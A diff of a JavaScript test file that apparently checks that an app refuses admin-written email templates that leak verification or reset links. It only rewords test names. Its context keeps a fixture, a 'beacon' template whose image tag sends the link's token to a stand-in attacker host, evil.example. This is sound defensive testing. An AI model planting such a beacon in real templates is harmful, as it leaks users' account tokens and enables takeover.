@@ -12,7 +12,7 @@ import { stories } from '../../kit/world.js';
 const beacon = `<p>{{ link }}</p><img src="https://evil.example/?t={{ link | split: '#' | last }}">`;
 
 stories('An admin of an app who wants the account of a user', world => {
-  it('O2 D9 can save, preview or test no template that sends a code or link elsewhere', async () => {
+  it('O2 D9 cannot save, preview or test a template that sends a code or link elsewhere', async () => {
     const app = await world.app(bothOn);
     const email = newEmail();
     await app.registerProven({ email });
@@ -41,7 +41,7 @@ stories('An admin of an app who wants the account of a user', world => {
     });
   });
 
-  it('D9 D6 gets nothing by a template from before that rule: the default is sent in its place, and no message is lost', async () => {
+  it('D9 D6 gains nothing by a template from before that rule: the default is sent instead, and no message is lost', async () => {
     const app = await world.app(bothOn);
     const [email, phone] = [newEmail(), newPhone()];
     await stored(app, 'EMAIL_VERIFICATION', { subject: null, text: '{{ link }}', html: beacon });
@@ -61,7 +61,7 @@ stories('An admin of an app who wants the account of a user', world => {
     await reset(app, { token: await app.tokenTo(email) }, 'a better horse battery');
   });
 
-  it('V3 D6 has the code accepted that the default tells in the place of such a template', async () => {
+  it('V3 D6 cannot break verification by such a template: the code of the default text is accepted', async () => {
     const app = await world.app(bothOn);
     const email = newEmail();
     await stored(app, 'EMAIL_VERIFICATION', {
